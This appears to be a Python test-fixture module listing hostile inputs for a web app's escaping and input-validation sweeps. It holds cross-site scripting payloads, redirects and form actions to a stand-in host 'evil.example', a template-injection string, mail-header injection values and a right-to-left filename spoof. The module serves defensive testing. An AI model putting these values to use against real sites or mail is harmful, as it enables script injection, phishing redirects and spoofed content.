"""Hostile values for the input-hygiene and escaping sweeps.

Two kinds:

- PRINTABLE: text a visitor may legitimately type and we must store as typed (a name may hold
  "<", quotes or "&"), but which becomes live markup if a page or mail does not escape it.
  Every markup payload carries the marker "xss" in a tag name, an attribute name or a URL, so
  the sweep can tell an element or attribute that came from a value from the page's own.
- CONTROL: characters no single-line field may hold (they break mail headers, .ics lines and
  PostgreSQL, or disguise text); MULTI_LINE_REFUSED is the subset a textarea refuses too.

The sweeps feed every value to every field they find, so a new value here is tested everywhere.
"""

from __future__ import annotations

MARKER = "xss"
EVIL_HOST = "evil.example"

PRINTABLE: list[str] = [
    "<xss-probe>Jansen</xss-probe>",
    f'<meta http-equiv="refresh" content="0;url=https://{EVIL_HOST}/xss">',
    '"><xss-probe data-x="1">',
    "'><xss-probe>",
    '" xss-attr="1" onmouseover="alert(1)',
    "' xss-attr='1' onfocus='alert(1)",
    "<img src=x onerror=alert(1) xss-attr>",
    "<script>window.xss=1</script>",
    '<a href="javascript:alert(1)">xss-link</a>',
    "javascript:alert(1)//xss",
    "</textarea><xss-probe>",
    "</title><xss-probe>",
    "</pre><xss-probe>",
    "<svg onload=alert(1) xss-attr></svg>",
    '<iframe srcdoc="&lt;xss-probe&gt;" xss-attr></iframe>',
    f'<base href="https://{EVIL_HOST}/xss">',
    f'<form action="https://{EVIL_HOST}/xss"><button xss-attr>Go</button></form>',
    "{{ request.user }}{% debug %}{{ naam }}",
    'Tom & Jerry\'s <b>"B.V."</b> &amp; &lt;xss-probe&gt;',
    "O'Brien-van der Berg",
    "Zoë Ærø Ğüneş 山田 محمد",
    # Long, still within a 200-character field, ending in markup.
    "A" * 170 + "<xss-probe>",
]

# A value much longer than any single-line field or textarea allows.
LONG = "x" * 5000

# (label, value): refused by every single-line field.
CONTROL: list[tuple[str, str]] = [
    ("LF", "Jan\nBcc: victim@evil.example"),
    ("CR", "Jan\rJansen"),
    ("CRLF", "Jan\r\nSubject: spam"),
    ("trailing CRLF", "Jan Jansen\r\n"),
    ("leading LF", "\nJan Jansen"),
    ("NUL", "Jan\x00Jansen"),
    ("TAB", "Jan\tJansen"),
    ("VT", "Jan\x0bJansen"),
    ("FF", "Jan\x0cJansen"),
    ("ESC", "Jan\x1b[31mJansen"),
    ("US", "Jan\x1fJansen"),
    ("DEL", "Jan\x7fJansen"),
    ("C1 NEL", "Jan\x85Jansen"),
    ("C1 CSI", "Jan\x9bJansen"),
    ("LINE SEPARATOR", "Jan\u2028Jansen"),
    ("PARAGRAPH SEPARATOR", "Jan\u2029Jansen"),
    ("LRE", "Jan\u202aJansen"),
    ("RLE", "Jan\u202bJansen"),
    ("PDF", "Jan\u202cJansen"),
    ("LRO", "Jan\u202dJansen"),
    ("RLO", "invoice\u202efdp.exe"),
    ("LRI", "Jan\u2066Jansen"),
    ("RLI", "Jan\u2067Jansen"),
    ("FSI", "Jan\u2068Jansen"),
    ("PDI", "Jan\u2069Jansen"),
]

# Only a JSON body can carry this (a form post is UTF-8); PostgreSQL cannot store it.
LONE_SURROGATE = ("lone surrogate", "Jan\ud800Jansen")

# A textarea keeps line breaks and tabs, but refuses these.
MULTI_LINE_ALLOWED = "Regel 1\r\nRegel 2\n\tingesprongen"
MULTI_LINE_REFUSED: list[tuple[str, str]] = [
    (label, value)
    for label, value in CONTROL
    if label not in {"LF", "CR", "CRLF", "trailing CRLF", "leading LF", "TAB"}
    and "SEPARATOR" not in label
]


def fit(value: str, max_length: int | None) -> str:
    return value if not max_length else value[:max_length]
